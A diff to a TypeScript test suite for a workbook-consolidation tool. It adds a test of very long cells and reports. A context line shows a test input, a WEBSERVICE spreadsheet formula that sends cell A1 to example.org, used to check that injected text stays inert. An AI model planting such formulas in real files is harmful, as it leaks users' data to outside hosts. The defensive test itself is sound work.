@@ -1,9 +1,10 @@
 /** A unit's text harms nobody: it stays text in the county's Excel. */
-import { readFile } from "node:fs/promises";
+import { readFile, writeFile } from "node:fs/promises";
 import { join } from "node:path";
 import { strFromU8, unzipSync } from "fflate";
 import { cellsOf } from "../../../src/workbook/cells";
-import { consolidated, plan, typed, type Row } from "../row";
+import { call } from "../../batch/call";
+import { codesAt, consolidated, plan, typed, type Row } from "../row";
 
 const LIVE = [
   '=WEBSERVICE("http://example.org/?a="&A1)',
@@ -71,6 +72,23 @@ export const HARM: readonly Row[] = [
       expect(texts).toContain("与（电话略）有关的活动");
       expect(texts).toContain("与（证件号略）有关的活动");
       for (const figure of FIGURES) expect(texts).toContain(`与${figure}有关的活动`);
+    },
+  },
+  {
+    title: "a cell and a report as long as they can be are answered at once",
+    holds: async (folder) => {
+      const long = (unit: string): string => unit.repeat(32_000 / unit.length);
+      const { document } = await consolidated(folder, {
+        "台上镇.xlsx": typed(typed(plan("台上镇"), "L1活动", { B5: long("年"), C5: long("1～") }), "关工01", {
+          E7: long("1～"),
+        }),
+      });
+      expect(codesAt(document, "关工01", "E7")).not.toEqual([]);
+      expect(codesAt(document, "L1活动", "B5")).toContain("D45");
+      const report = join(folder, "report.txt");
+      await writeFile(report, "1～".repeat(32_000) + "五老志愿者2503人。");
+      const said = await call("text", report, "--json");
+      expect(JSON.parse(said.out)).toMatchObject({ claims: [{ text: "2503人" }] });
     },
   },
 ];
